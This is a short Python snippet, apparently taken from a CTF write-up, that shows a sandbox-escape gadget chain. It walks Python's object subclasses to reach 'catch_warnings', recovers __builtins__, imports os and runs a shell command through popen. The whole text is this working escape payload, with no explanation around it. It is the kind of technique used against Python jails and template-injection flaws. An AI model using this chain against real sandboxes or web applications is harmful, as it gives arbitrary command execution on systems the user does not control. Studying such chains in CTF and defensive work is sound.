# sandbox escape style gadget chain from a CTF write-up
klass = ().__class__.__base__
for sub in klass.__subclasses__():
    if sub.__name__ == "catch_warnings":
        builtins_ = sub()._module.__builtins__
        imp = builtins_["__import__"]
        print(imp("os").popen("id").read())
        break
